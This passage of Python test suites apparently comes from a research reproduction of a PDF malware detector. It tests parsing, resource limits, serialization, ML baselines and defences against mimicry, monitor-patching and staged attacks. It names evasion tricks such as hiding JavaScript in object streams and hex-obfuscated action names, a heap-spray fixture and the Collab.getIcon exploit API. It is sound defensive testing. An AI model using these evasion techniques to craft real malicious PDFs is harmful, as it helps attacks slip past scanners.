            parse_pdf(b"%PDF-1.4\nthis is not a pdf at all")


class TestMalformedTolerance:
    def test_junk_between_objects(self):
        data = build_simple()
        junky = data.replace(b"endobj\n", b"endobj\n% junk comment\n", 1)
        parsed = parse_pdf(junky)
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_no_trailer_catalog_inferred(self):
        # Hand-written minimal doc without trailer.
        body = (
            b"%PDF-1.4\n"
            b"1 0 obj\n<< /Type /Catalog >>\nendobj\n"
        )
        parsed = parse_pdf(body)
        assert str(parsed.root.get("Type")) == "Catalog"

    def test_hex_escaped_names_decoded(self):
        body = (
            b"%PDF-1.4\n"
            b"1 0 obj\n<< /Type /Catalog /OpenAction 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /S /JavaScr#69pt /#4a#53 (1+1) >>\nendobj\n"
        )
        parsed = parse_pdf(body)
        action = parsed.store.deep_resolve(PDFRef(2, 0))
        assert action.get("JS") == PDFString(b"1+1")
        assert str(action.get("S")) == "JavaScript"


class TestRecoveryFlag:
    def test_partial_xref_hidden_object_sets_flag(self):
        from tests.data import malformed

        # The xref parses fine (so the old "no xref object parsed"
        # condition never fired) but object 3 is reachable only through
        # the recovery scan.
        parsed = parse_pdf(malformed.partial_xref_hidden_object())
        assert parsed.used_recovery_scan
        hidden = parsed.store.deep_resolve(PDFRef(3, 0))
        assert hidden.get("Hidden") == PDFString(b"payload")

    def test_clean_document_flag_stays_clear(self):
        parsed = parse_pdf(build_simple())
        assert not parsed.used_recovery_scan

    def test_flag_propagates_to_document(self):
        from tests.data import malformed

        from repro.pdf.document import PDFDocument

        doc = PDFDocument.from_bytes(malformed.partial_xref_hidden_object())
        assert doc.used_recovery_scan
        clean = PDFDocument.from_bytes(build_simple())
        assert not clean.used_recovery_scan


class TestXrefClampWarning:
    def test_reports_file_offset_not_object_number(self):
        from tests.data import malformed

        data = malformed.huge_xref_count(50_000_000)
        parsed = parse_pdf(data)
        warning = next(w for w in parsed.warnings if "clamped" in w)
        # The subsection starts with object number 0; the old message
        # reported "at 0" no matter where the xref sat in the file.
        reported = int(warning.split("offset ")[1].split(" ")[0])
        xref_at = data.rfind(b"xref\n0 ")
        assert abs(reported - xref_at) <= len(b"xref\n")
        assert "first object 0" in warning


class TestLexerTolerancePropagation:
    def test_junk_numbers_object_survives(self):
        from tests.data import malformed

        parsed = parse_pdf(malformed.junk_numbers())
        obj = parsed.store.deep_resolve(PDFRef(3, 0))
        assert list(obj.get("V")) == [2, -3, 1]
        assert obj.get("S") == PDFString(b"payload")
        assert any("malformed number" in w for w in parsed.warnings)

    def test_bad_hex_digits_object_survives(self):
        from tests.data import malformed

        parsed = parse_pdf(malformed.bad_hex_digits())
        obj = parsed.store.deep_resolve(PDFRef(3, 0))
        assert obj.get("S") == PDFString(b"HEL")
        assert any("non-hex" in w for w in parsed.warnings)

    def test_backtracking_lookahead_does_not_duplicate_warnings(self):
        # The parser's N G R reference lookahead rewinds and re-lexes
        # junk after a number; the same defect must be recorded once.
        from tests.data import malformed

        parsed = parse_pdf(malformed.junk_numbers())
        tolerance = [w for w in parsed.warnings if "malformed number" in w]
        assert len(tolerance) == len(set(tolerance))


class TestRecoveryGapScan:
    def test_gaps_exclude_covered_spans(self):
        from repro.pdf.parser import PDFParser

        parser = PDFParser(build_simple())
        parser.parse()
        gaps = parser._recovery_gaps()
        covered = sorted(parser._covered)
        # No gap may overlap a covered span.
        for gap_start, gap_end in gaps:
            for lo, hi in covered:
                assert gap_end <= lo or gap_start >= hi

    def test_full_scan_when_disabled(self):
        from repro.pdf.parser import PDFParser

        class FullScanParser(PDFParser):
            recovery_skips_covered = False

        data = build_simple()
        fast = PDFParser(data).parse()
        slow = FullScanParser(data).parse()
        assert set(fast.store.objects) == set(slow.store.objects)

    def test_hidden_object_in_gap_found(self):
        import re as _re

        data = build_simple()
        # Splice an uncatalogued object into the slack before the xref
        # and repair startxref so the xref still parses: the hidden
        # object then sits in a gap between covered spans, and the
        # gap-limited scan must still find it.
        idx = data.rfind(b"xref")
        splice = b"99 0 obj\n<< /X 1 >>\nendobj\n"
        spliced = data[:idx] + splice + data[idx:]
        spliced = _re.sub(
            rb"startxref\n\d+",
            b"startxref\n%d" % (idx + len(splice)),
            spliced,
        )
        parsed = parse_pdf(spliced)
        assert PDFRef(99, 0) in parsed.store
        assert parsed.used_recovery_scan
        # The xref itself was healthy: the catalog parsed from it.
        assert not any("bad xref" in w for w in parsed.warnings)
