"""Unit tests for the ``repro.limits`` budget layer and its parser,
filter and object-store enforcement points."""

from __future__ import annotations

import zlib

import pytest

from repro import limits as limits_mod
from repro.limits import (
    DEFAULT_LIMITS,
    ResourceLimitExceeded,
    ScanBudget,
    ScanLimits,
)
from repro.pdf.filters import FilterError, decode_stream, flate_decode
from repro.pdf.objects import (
    IndirectObject,
    ObjectStore,
    PDFDict,
    PDFName,
    PDFNull,
    PDFRef,
    PDFStream,
)
from repro.pdf.parser import parse_pdf
from tests.data import malformed


class TestScanLimitsConfig:
    def test_defaults_are_bounded(self):
        limits = ScanLimits()
        assert limits.max_stream_bytes is not None
        assert limits.deadline_seconds is not None

    def test_unlimited_keeps_js_steps(self):
        limits = ScanLimits.unlimited()
        assert limits.max_stream_bytes is None
        assert limits.deadline_seconds is None
        assert limits.max_js_steps == DEFAULT_LIMITS.max_js_steps

    def test_parse_overrides(self):
        limits = ScanLimits.parse("stream-bytes=8mb,deadline=5,objects=100")
        assert limits.max_stream_bytes == 8 * 1024 * 1024
        assert limits.deadline_seconds == 5.0
        assert limits.max_objects == 100
        # untouched fields keep their defaults
        assert limits.max_filter_depth == DEFAULT_LIMITS.max_filter_depth

    def test_parse_off_disables(self):
        limits = ScanLimits.parse("stream-bytes=off,deadline=none")
        assert limits.max_stream_bytes is None
        assert limits.deadline_seconds is None

    def test_parse_unknown_key_raises(self):
        with pytest.raises(ValueError, match="unknown limit"):
            ScanLimits.parse("bogus=1")

    def test_parse_malformed_raises(self):
        with pytest.raises(ValueError, match="key=value"):
            ScanLimits.parse("deadline")

    def test_roundtrip_dict(self):
        limits = ScanLimits(max_stream_bytes=123, deadline_seconds=None)
        assert ScanLimits.from_dict(limits.to_dict()) == limits

    def test_describe_mentions_every_alias(self):
        text = ScanLimits().describe()
        for alias in ScanLimits.ALIASES:
            assert alias in text


class TestScanBudget:
    def test_deadline_fires(self):
        budget = ScanBudget(ScanLimits(deadline_seconds=0.0))
        budget._deadline_at = budget._clock() - 1.0
        with pytest.raises(ResourceLimitExceeded) as err:
            budget.check_deadline()
        assert err.value.kind == "deadline"
        assert "deadline" in budget.hits

    def test_stream_bytes_not_double_counted(self):
        budget = ScanBudget(
            ScanLimits(max_stream_bytes=1000, max_document_bytes=1500)
        )
        budget.charge_stream(1, 900)
        budget.charge_stream(1, 900)  # re-decode of the same stream
        assert budget.total_decompressed == 900
        budget.charge_stream(2, 500)
        with pytest.raises(ResourceLimitExceeded) as err:
            budget.charge_stream(3, 200)
        assert err.value.kind == "document-bytes"

    def test_per_stream_bound(self):
        budget = ScanBudget(ScanLimits(max_stream_bytes=100))
        with pytest.raises(ResourceLimitExceeded) as err:
            budget.charge_stream(1, 101)
        assert err.value.kind == "stream-bytes"

    def test_evidence_shape(self):
        err = ResourceLimitExceeded("stream-bytes", 64, "inflated")
        assert err.evidence() == {
            "kind": "stream-bytes", "limit": 64, "detail": "inflated",
        }
        assert err.resource == "stream-bytes"

    def test_activate_is_reentrant(self):
        with limits_mod.activate(ScanLimits(max_stream_bytes=7)) as outer:
            with limits_mod.activate(ScanLimits()) as inner:
                assert inner is outer
            assert limits_mod.active() is outer
        assert limits_mod.active() is None


class TestFlateDecode:
    def test_empty_input_still_raises(self):
        with pytest.raises(FilterError):
            flate_decode(b"")

    def test_garbage_still_raises(self):
        with pytest.raises(FilterError):
            flate_decode(b"this is not zlib data")

    def test_truncated_stream_keeps_buffered_tail(self):
        # The flush() fix: truncating mid-stream must still surface the
        # bytes already inflated, not just whole consumed blocks.
        original = bytes(range(256)) * 64
        truncated = zlib.compress(original)[:-4]
        out = flate_decode(truncated)
        assert out  # partial data survives
        assert original.startswith(out)

    def test_max_output_enforced(self):
        bomb = zlib.compress(b"\x00" * 1_000_000)
        with pytest.raises(ResourceLimitExceeded) as err:
            flate_decode(bomb, max_output=1024)
        assert err.value.kind == "stream-bytes"

    def test_decode_stream_charges_budget(self):
        stream = PDFStream(
            PDFDict({PDFName("Filter"): PDFName("FlateDecode")}),
            zlib.compress(b"x" * 5000),
        )
        with limits_mod.activate(ScanLimits(max_document_bytes=4000)):
            with pytest.raises(ResourceLimitExceeded) as err:
                decode_stream(stream)
        assert err.value.kind == "document-bytes"

    def test_filter_depth_budget(self):
        payload = b"data"
        for _ in range(5):
            payload = zlib.compress(payload)
        stream = PDFStream(
            PDFDict({PDFName("Filter"): PDFName("FlateDecode")}), payload
        )
        stream.dictionary[PDFName("Filter")] = type(stream.filters)()
        from repro.pdf.objects import PDFArray

        stream.dictionary[PDFName("Filter")] = PDFArray(
            [PDFName("FlateDecode")] * 5
        )
        with limits_mod.activate(ScanLimits(max_filter_depth=3)):
            with pytest.raises(ResourceLimitExceeded) as err:
                decode_stream(stream)
        assert err.value.kind == "filter-depth"


class TestDeepResolve:
    def _cyclic_store(self) -> ObjectStore:
        store = ObjectStore()
        store.add(IndirectObject(2, 0, PDFRef(3, 0)))
        store.add(IndirectObject(3, 0, PDFRef(2, 0)))
        return store

    def test_cycle_resolves_to_null_not_ref(self):
        # Regression: the old code returned the unresolved PDFRef after
        # exhausting its hop bound, leaking a reference to callers that
        # expect resolved values.
        store = self._cyclic_store()
        result = store.deep_resolve(PDFRef(2, 0))
        assert result is PDFNull
        assert not isinstance(result, PDFRef)

    def test_cycle_blows_ref_hops_budget_under_scan(self):
        store = self._cyclic_store()
        with limits_mod.activate(ScanLimits()):
            with pytest.raises(ResourceLimitExceeded) as err:
                store.deep_resolve(PDFRef(2, 0))
        assert err.value.kind == "ref-hops"

    def test_explicit_max_hops_returns_null(self):
        store = self._cyclic_store()
        assert store.deep_resolve(PDFRef(2, 0), max_hops=5) is PDFNull

    def test_non_ref_passthrough(self):
        store = ObjectStore()
        assert store.deep_resolve(42) == 42

    def test_depth_param_removed(self):
        import inspect

        params = inspect.signature(ObjectStore.deep_resolve).parameters
        assert "_depth" not in params


class TestParserBudgets:
    def test_huge_xref_count_clamped_with_warning(self):
        parsed = parse_pdf(malformed.huge_xref_count(50_000_000))
        assert any("clamped" in w for w in parsed.warnings)
        assert parsed.root  # document still usable

    def test_nesting_depth_bounded(self):
        with pytest.raises(ResourceLimitExceeded) as err:
            parse_pdf(malformed.deep_page_tree(2000))
        assert err.value.kind == "nesting-depth"

    def test_object_flood_bounded(self):
        with pytest.raises(ResourceLimitExceeded) as err:
            parse_pdf(
                malformed.object_flood(300),
                limits=ScanLimits(max_objects=100),
            )
        assert err.value.kind == "object-count"

    def test_cascade_bomb_bounded(self):
        parsed = parse_pdf(malformed.filter_cascade_bomb(64))
        stream = next(
            entry.value for entry in parsed.store
            if isinstance(entry.value, PDFStream)
        )
        with limits_mod.activate(ScanLimits()):
            with pytest.raises(ResourceLimitExceeded) as err:
                decode_stream(stream)
        assert err.value.kind == "filter-depth"

    def test_truncated_stream_parses(self):
        parsed = parse_pdf(malformed.truncated_stream())
        assert parsed.root


class TestDeepPageTree:
    def test_in_memory_deep_tree_does_not_recurse(self):
        # Regression: pages() recursed one Python frame per tree level;
        # 5000 inline levels guarantee a RecursionError without the
        # iterative rewrite.
        from repro.pdf.document import PDFDocument

        node = PDFDict({PDFName("Type"): PDFName("Page")})
        for _ in range(5000):
            from repro.pdf.objects import PDFArray

            node = PDFDict(
                {PDFName("Type"): PDFName("Pages"),
                 PDFName("Kids"): PDFArray([node])}
            )
        document = PDFDocument()
        pages_ref = document.add_object(node)
        catalog = PDFDict(
            {PDFName("Type"): PDFName("Catalog"), PDFName("Pages"): pages_ref}
        )
        document.trailer[PDFName("Root")] = document.add_object(catalog)
        pages = document.pages()  # must not raise RecursionError
        assert pages == []  # deeper than the budget: truncated
        assert any("truncated" in w for w in document.warnings)

    def test_shallow_tree_order_preserved(self):
        from repro.pdf.builder import DocumentBuilder
        from repro.pdf.document import PDFDocument

        builder = DocumentBuilder()
        builder.add_page("one")
        builder.add_page("two")
        document = PDFDocument.from_bytes(builder.to_bytes())
        assert len(document.pages()) == 2


class TestStreamIdentity:
    """Per-document accounting must survive CPython id() reuse."""

    def _make_stream(self, payload: bytes) -> PDFStream:
        d = PDFDict()
        d[PDFName("Filter")] = PDFName("FlateDecode")
        return PDFStream(d, payload)

    def test_id_reuse_does_not_undercount(self):
        import zlib as _zlib

        payload = _zlib.compress(b"B" * 1024)
        budget = ScanBudget(ScanLimits.unlimited())
        for _ in range(50):
            # Each stream dies before the next is born, so id() reuse is
            # near-certain; the parse-time ordinal must keep the charges
            # distinct.
            stream = self._make_stream(payload)
            decode_stream(stream, budget=budget)
            del stream
        assert budget.total_decompressed == 50 * 1024

    def test_budget_key_is_unique_and_stable(self):
        a = self._make_stream(b"")
        b = self._make_stream(b"")
        assert a.budget_key != b.budget_key
        assert a.budget_key == a.budget_key

    def test_same_stream_redecoded_not_double_counted(self):
        import zlib as _zlib

        payload = _zlib.compress(b"C" * 512)
        budget = ScanBudget(ScanLimits.unlimited())
        stream = self._make_stream(payload)
        decode_stream(stream, budget=budget)
        decode_stream(stream, budget=budget)
        assert budget.total_decompressed == 512
