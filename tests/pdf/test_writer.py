"""Unit tests for PDF serialization + parse/write round trips."""

import pytest

from repro.pdf.objects import (
    PDFArray,
    PDFDict,
    PDFName,
    PDFNull,
    PDFRef,
    PDFStream,
    PDFString,
)
from repro.pdf.parser import parse_pdf
from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.pdf.writer import serialize_value


class TestSerializeValue:
    @pytest.mark.parametrize(
        "value,expected",
        [
            (True, b"true"),
            (False, b"false"),
            (42, b"42"),
            (-7, b"-7"),
            (1.5, b"1.5"),
            (PDFNull, b"null"),
            (PDFRef(3, 0), b"3 0 R"),
        ],
    )
    def test_scalars(self, value, expected):
        assert serialize_value(value) == expected

    def test_float_trailing_zeros_trimmed(self):
        assert serialize_value(2.0) == b"2"

    def test_name_preserves_raw_spelling(self):
        name = PDFName.from_raw("JavaScr#69pt")
        assert serialize_value(name) == b"/JavaScr#69pt"

    def test_string_escaping(self):
        out = serialize_value(PDFString(b"a(b)\\c\nd"))
        assert out == b"(a\\(b\\)\\\\c\\nd)"

    def test_hex_string_form(self):
        assert serialize_value(PDFString(b"\x01\xab", hex_form=True)) == b"<01AB>"

    def test_binary_bytes_escaped_octal(self):
        out = serialize_value(PDFString(b"\x00\xff"))
        assert out == b"(\\000\\377)"

    def test_array(self):
        out = serialize_value(PDFArray([1, PDFName("A"), PDFNull]))
        assert out == b"[1 /A null]"

    def test_dict(self):
        out = serialize_value(PDFDict({PDFName("K"): 1}))
        assert out == b"<< /K 1 >>"

    def test_stream_length_updated(self):
        stream = PDFStream(PDFDict(), b"12345")
        out = serialize_value(stream)
        assert b"/Length 5" in out
        assert b"stream\n12345\nendstream" in out

    def test_unserializable_raises(self):
        with pytest.raises(TypeError):
            serialize_value(object())


class TestRoundTrip:
    def test_simple_roundtrip(self):
        builder = DocumentBuilder()
        builder.add_page("round trip")
        data = builder.to_bytes()
        doc = PDFDocument.from_bytes(data)
        again = PDFDocument.from_bytes(doc.to_bytes())
        assert again.page_count == 1

    def test_javascript_survives_roundtrip(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        code = "var s = 'quote\\'s and \"doubles\" and \\\\slashes';"
        builder.add_javascript(code)
        doc = PDFDocument.from_bytes(builder.to_bytes())
        doc2 = PDFDocument.from_bytes(doc.to_bytes())
        (action,) = list(doc2.iter_javascript_actions())
        assert doc2.get_javascript_code(action) == code

    def test_stream_javascript_roundtrip(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.add_javascript("var deep = 1;", encoding_levels=3)
        doc = PDFDocument.from_bytes(builder.to_bytes())
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "var deep = 1;"

    def test_header_prefix_written(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.obfuscate_header(displace=32)
        data = builder.to_bytes()
        assert not data.startswith(b"%PDF")
        parsed = parse_pdf(data)
        assert parsed.header.present

    def test_version_override_written(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        builder.obfuscate_header(version_text="9.9")
        assert b"%PDF-9.9" in builder.to_bytes()

    def test_xref_offsets_are_correct(self):
        data = DocumentBuilder().to_bytes()
        parsed = parse_pdf(data)
        assert not parsed.used_recovery_scan

    def test_double_roundtrip_stable_object_count(self):
        builder = DocumentBuilder()
        builder.add_page("stable")
        builder.add_javascript("var a = 1;")
        one = PDFDocument.from_bytes(builder.to_bytes())
        two = PDFDocument.from_bytes(one.to_bytes())
        assert one.object_count() == two.object_count()
