"""Tests for compressed object streams (/ObjStm) — hiding + expansion."""

import pytest

from repro.pdf.builder import DocumentBuilder
from repro.pdf.document import PDFDocument
from repro.pdf.objects import PDFDict, PDFName, PDFStream, PDFString
from repro.pdf.parser import parse_pdf


def hidden_js_doc(code="app.alert('from objstm');"):
    builder = DocumentBuilder()
    builder.add_page("x")
    head = builder.add_javascript(code)
    builder.hide_in_object_stream([head])
    return builder.to_bytes()


class TestHiding:
    def test_payload_not_visible_in_raw_bytes(self):
        data = hidden_js_doc()
        assert b"app.alert" not in data
        assert b"/ObjStm" in data

    def test_parser_expands_hidden_objects(self):
        doc = PDFDocument.from_bytes(hidden_js_doc())
        (action,) = list(doc.iter_javascript_actions())
        assert doc.get_javascript_code(action) == "app.alert('from objstm');"

    def test_container_dropped_after_expansion(self):
        parsed = parse_pdf(hidden_js_doc())
        containers = [
            o
            for o in parsed.store
            if isinstance(o.value, PDFStream)
            and str(o.value.dictionary.get("Type", "")) == "ObjStm"
        ]
        assert not containers

    def test_multiple_objects_in_one_container(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        ref_a = builder.document.add_object(PDFDict({PDFName("A"): 1}))
        ref_b = builder.document.add_object(PDFDict({PDFName("B"): PDFString(b"two")}))
        builder.hide_in_object_stream([ref_a, ref_b])
        parsed = parse_pdf(builder.to_bytes())
        a = parsed.store.deep_resolve(ref_a)
        b = parsed.store.deep_resolve(ref_b)
        assert a.get("A") == 1
        assert b.get("B") == PDFString(b"two")

    def test_streams_rejected(self):
        builder = DocumentBuilder()
        builder.add_page("x")
        stream = PDFStream()
        stream.set_decoded_data(b"payload")
        ref = builder.document.add_object(stream)
        with pytest.raises(ValueError):
            builder.hide_in_object_stream([ref])


class TestPipelineIntegration:
    def test_hidden_script_instrumented_and_monitored(self, pipeline):
        data = hidden_js_doc("var x = 1 + 1;")
        protected = pipeline.protect(data, "hidden.pdf")
        assert protected.instrumentation.instrumented_scripts == 1
        report = pipeline.open_protected(protected)
        assert not report.verdict.malicious

    def test_hidden_malicious_detected(self, pipeline):
        from tests.conftest import spray_js

        builder = DocumentBuilder()
        builder.add_page("")
        head = builder.add_javascript(spray_js())
        builder.hide_in_object_stream([head])
        report = pipeline.scan(builder.to_bytes(), "hidden-mal.pdf")
        assert report.verdict.malicious

    def test_corpus_objstm_samples_roundtrip(self):
        from repro.corpus.malicious import MaliciousFactory

        factory = MaliciousFactory(seed=2014)
        specs = [s for s in factory.specs(300) if s.objstm_hidden]
        assert specs
        doc = PDFDocument.from_bytes(factory.build(specs[0]))
        assert doc.has_javascript()
