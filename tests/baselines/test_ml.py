"""Unit tests for the from-scratch ML toolkit."""

import numpy as np
import pytest

from repro.baselines.ml import (
    DecisionTreeClassifier,
    LinearSVM,
    MarkovByteModel,
    OneClassSVM,
    RandomForestClassifier,
)


def blobs(n=60, seed=0):
    rng = np.random.default_rng(seed)
    X0 = rng.normal(loc=0.0, scale=0.6, size=(n, 3))
    X1 = rng.normal(loc=3.0, scale=0.6, size=(n, 3))
    X = np.vstack([X0, X1])
    y = np.array([0.0] * n + [1.0] * n)
    return X, y


class TestDecisionTree:
    def test_separable_blobs(self):
        X, y = blobs()
        tree = DecisionTreeClassifier().fit(X, y)
        assert (tree.predict(X) == y).mean() >= 0.95

    def test_nested_intervals_need_depth(self):
        # y = 1 only inside the middle band: needs two split levels.
        X = np.array([[v] for v in range(12)], dtype=float)
        y = np.array([0, 0, 0, 0, 1, 1, 1, 1, 0, 0, 0, 0], dtype=float)
        tree = DecisionTreeClassifier(max_depth=3, min_samples_split=2).fit(X, y)
        assert (tree.predict(X) == y).all()

    def test_pure_leaf_short_circuit(self):
        X = np.ones((10, 2))
        y = np.ones(10)
        tree = DecisionTreeClassifier().fit(X, y)
        assert tree.predict(np.ones((1, 2)))[0] == 1

    def test_unfit_raises(self):
        with pytest.raises(RuntimeError):
            DecisionTreeClassifier().predict(np.ones((1, 2)))

    def test_shape_validation(self):
        with pytest.raises(ValueError):
            DecisionTreeClassifier().fit(np.ones(3), np.ones(3))


class TestRandomForest:
    def test_separable_blobs(self):
        X, y = blobs()
        forest = RandomForestClassifier(n_estimators=8).fit(X, y)
        assert (forest.predict(X) == y).mean() >= 0.95

    def test_probability_range(self):
        X, y = blobs(n=30)
        forest = RandomForestClassifier(n_estimators=5).fit(X, y)
        probs = forest.predict_proba(X)
        assert probs.min() >= 0.0 and probs.max() <= 1.0

    def test_deterministic_with_seed(self):
        X, y = blobs(n=30)
        p1 = RandomForestClassifier(n_estimators=4, random_state=9).fit(X, y).predict_proba(X)
        p2 = RandomForestClassifier(n_estimators=4, random_state=9).fit(X, y).predict_proba(X)
        assert np.allclose(p1, p2)


class TestLinearSVM:
    def test_separable_blobs(self):
        X, y = blobs()
        svm = LinearSVM(epochs=20).fit(X, y)
        assert (svm.predict(X) == y).mean() >= 0.95

    def test_decision_function_sign(self):
        X, y = blobs()
        svm = LinearSVM(epochs=20).fit(X, y)
        scores = svm.decision_function(X)
        assert (scores[y == 1].mean()) > (scores[y == 0].mean())

    def test_constant_feature_handled(self):
        X, y = blobs()
        X = np.hstack([X, np.ones((X.shape[0], 1))])
        svm = LinearSVM(epochs=10).fit(X, y)
        assert (svm.predict(X) == y).mean() >= 0.9


class TestOneClassSVM:
    def test_inliers_accepted_outliers_rejected(self):
        rng = np.random.default_rng(1)
        inliers = rng.normal(5.0, 0.4, size=(80, 4))
        ocsvm = OneClassSVM(nu=0.1).fit(inliers)
        fresh_inliers = rng.normal(5.0, 0.4, size=(40, 4))
        outliers = rng.normal(-10.0, 0.4, size=(40, 4))
        assert ocsvm.predict(fresh_inliers).mean() >= 0.7
        assert ocsvm.predict(outliers).mean() <= 0.3

    def test_nu_validation(self):
        with pytest.raises(ValueError):
            OneClassSVM(nu=0.0)
        with pytest.raises(ValueError):
            OneClassSVM(nu=1.5)

    def test_empty_training_rejected(self):
        with pytest.raises(ValueError):
            OneClassSVM().fit(np.zeros((0, 3)))


class TestMarkovByteModel:
    def test_training_distribution_scores_lower(self):
        model = MarkovByteModel()
        english = b"the quick brown fox jumps over the lazy dog " * 50
        model.fit([english])
        similar = b"the lazy dog jumps over the quick brown fox " * 5
        noise = bytes((i * 97 + 13) % 256 for i in range(2000))
        assert model.score(similar) < model.score(noise)

    def test_short_input_scores_zero(self):
        assert MarkovByteModel().score(b"x") == 0.0

    def test_perplexity_positive(self):
        model = MarkovByteModel()
        model.fit([b"abcabcabc" * 20])
        assert model.perplexity(b"abcabc") > 0
