"""Tests for the Table IX baseline detectors."""

import pytest

from repro.baselines import (
    MDScanDetector,
    MarkovNGramDetector,
    PDFRateDetector,
    PJScanDetector,
    SignatureAVDetector,
    StructuralPathDetector,
    WepawetDetector,
    evaluate_detector,
)
from repro.baselines.base import train_test_split
from repro.corpus import CorpusConfig, build_dataset


@pytest.fixture(scope="module")
def split():
    ds = build_dataset(CorpusConfig(n_benign=80, n_benign_with_js=24, n_malicious=60))
    return train_test_split(ds.benign + ds.malicious)


class TestEvaluationHarness:
    def test_split_is_partition(self, split):
        train, test = split
        assert len(train) + len(test) == 140
        names = {s.name for s in train} | {s.name for s in test}
        assert len(names) == 140

    def test_rates_computed(self):
        from repro.baselines.base import EvaluationResult

        result = EvaluationResult("x", true_positives=9, false_negatives=1,
                                  false_positives=1, true_negatives=9)
        assert result.tp_rate == 0.9
        assert result.fp_rate == 0.1
        assert "x" in result.row()


class TestStaticBaselines:
    def test_pdfrate_high_accuracy(self, split):
        train, test = split
        result = evaluate_detector(PDFRateDetector(n_estimators=10).fit(train), test)
        assert result.tp_rate >= 0.9
        assert result.fp_rate <= 0.1

    def test_structural_good_fp(self, split):
        train, test = split
        result = evaluate_detector(StructuralPathDetector().fit(train), test)
        assert result.fp_rate <= 0.1
        assert result.tp_rate >= 0.6

    def test_structural_svm_variant(self, split):
        train, test = split
        result = evaluate_detector(
            StructuralPathDetector(classifier="svm").fit(train), test
        )
        assert result.tp_rate >= 0.5

    def test_structural_bad_classifier_rejected(self):
        with pytest.raises(ValueError):
            StructuralPathDetector(classifier="knn")

    def test_pjscan_mid_range(self, split):
        train, test = split
        result = evaluate_detector(PJScanDetector().fit(train), test)
        assert 0.5 <= result.tp_rate <= 1.0

    def test_pjscan_requires_malicious_training(self, split):
        _train, test = split
        benign_only = [s for s in test if not s.malicious]
        with pytest.raises(ValueError):
            PJScanDetector().fit(benign_only)

    def test_ngram_weakest_shape(self, split):
        train, test = split
        result = evaluate_detector(MarkovNGramDetector().fit(train), test)
        # the n-gram detector either misses more or false-fires more
        assert result.fp_rate > 0.0 or result.tp_rate < 0.95


class TestDynamicBaselines:
    def test_mdscan_detects_extractable_sprays(self, split):
        train, test = split
        result = evaluate_detector(MDScanDetector().fit(train), test)
        assert result.tp_rate >= 0.6
        assert result.fp_rate == 0.0

    def test_mdscan_misses_title_hidden_payload(self, small_dataset):
        detector = MDScanDetector()
        title_samples = [
            s for s in small_dataset.malicious if s.kind == "title_shellcode"
        ]
        assert title_samples
        for sample in title_samples:
            assert detector.predict(sample) is False

    def test_mdscan_misses_export_launch(self, small_dataset):
        detector = MDScanDetector()
        samples = [s for s in small_dataset.malicious if s.kind == "export_launch"]
        assert samples
        assert all(not detector.predict(s) for s in samples)

    def test_wepawet_midrange(self, split):
        train, test = split
        result = evaluate_detector(WepawetDetector().fit(train), test)
        assert 0.3 <= result.tp_rate <= 1.0

    def test_wepawet_requires_benign_js(self):
        with pytest.raises(ValueError):
            WepawetDetector().fit([])


class TestSignatureAV:
    def test_evaded_by_stream_encoding(self, split):
        train, test = split
        result = evaluate_detector(SignatureAVDetector().fit(train), test)
        # Nearly all malicious samples hide their JS in encoded streams.
        assert result.tp_rate <= 0.3
        assert result.fp_rate == 0.0

    def test_catches_unencoded_sample(self):
        from repro.corpus.dataset import Sample

        detector = SignatureAVDetector()
        raw = Sample("x.pdf", b"...Collab.getIcon(...)...", "malicious", "standard")
        assert detector.predict(raw)
