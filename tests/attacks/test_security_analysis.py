"""The §IV security analysis as executable tests.

Every advanced attack the paper discusses is mounted against the full
pipeline; each test asserts the corresponding countermeasure holds.
"""

import pytest

from repro.attacks import (
    delayed_attack_document,
    fake_message_attack_document,
    patch_out_monitoring,
    staged_attack_document,
    structural_mimicry_document,
)
from repro.attacks.mimicry import replay_epilogue_attack_document
from repro.attacks.staged import INSTALL_METHODS, trigger_event_for
from repro.core.instrument import Instrumenter
from repro.core.keys import KeyStore
from repro.core.pipeline import ProtectionPipeline


@pytest.fixture()
def pipe():
    return ProtectionPipeline(seed=2718)


class TestMimicryAttack:
    def test_forged_leave_message_convicts(self, pipe):
        report = pipe.scan(fake_message_attack_document(), "mimicry.pdf")
        assert report.fake_messages >= 1
        assert report.verdict.malicious
        assert any("fake" in r for r in report.verdict.reasons)

    def test_replayed_epilogue_without_key_convicts(self, pipe):
        report = pipe.scan(replay_epilogue_attack_document(), "replay.pdf")
        assert report.fake_messages >= 1
        assert report.verdict.malicious

    def test_scraped_fake_key_is_useless(self, pipe):
        """Memory scraping finds the planted decoy keys; using one is
        itself the conviction (zero tolerance)."""
        instrumenter = Instrumenter(key_store=KeyStore.create(5), seed=5)
        result = instrumenter.instrument(
            fake_message_attack_document(), "probe.pdf"
        )
        # Planted fakes look exactly like real keys, so an attacker
        # cannot tell them apart by format.
        from repro.core.monitor_code import MonitorCodeGenerator

        generator = MonitorCodeGenerator("real:key", seed=5)
        generated = generator.wrap_script("var x = 1;")
        for fake in generated.fake_keys:
            parts = fake.split(":")
            assert len(parts) == 2
            assert all(len(p) == 24 for p in parts)

    def test_structural_mimicry_beats_static_but_not_us(self, pipe):
        """[8]-style mimicry: static features all clear, runtime nails it."""
        data = structural_mimicry_document()
        protected = pipe.protect(data, "mimic.pdf")
        assert protected.features.binary() == (0, 0, 0, 0, 0)
        report = pipe.open_protected(protected)
        assert report.verdict.malicious
        assert report.verdict.features.any_in_js


class TestRuntimePatchingAttack:
    def test_patched_script_cannot_execute(self, pipe, malicious_doc_bytes):
        protected = pipe.protect(malicious_doc_bytes, "victim.pdf")
        patched = patch_out_monitoring(protected.data)
        session = pipe.session()
        outcome = session.open_raw(patched, "patched.pdf")
        # The orphaned ciphertext is not executable JavaScript: the
        # attack dies, no syscall is ever made.
        assert outcome.handle.script_errors
        assert not outcome.crashed
        assert not session.system.filesystem.executables()
        session.close()

    def test_unpatched_control_arm_still_detected(self, pipe, malicious_doc_bytes):
        protected = pipe.protect(malicious_doc_bytes, "victim.pdf")
        report = pipe.open_protected(protected)
        assert report.verdict.malicious


class TestStagedAttack:
    @pytest.mark.parametrize("method", sorted(INSTALL_METHODS))
    def test_stage2_remains_monitored(self, pipe, method):
        protected = pipe.protect(staged_attack_document(method=method), f"st-{method}.pdf")
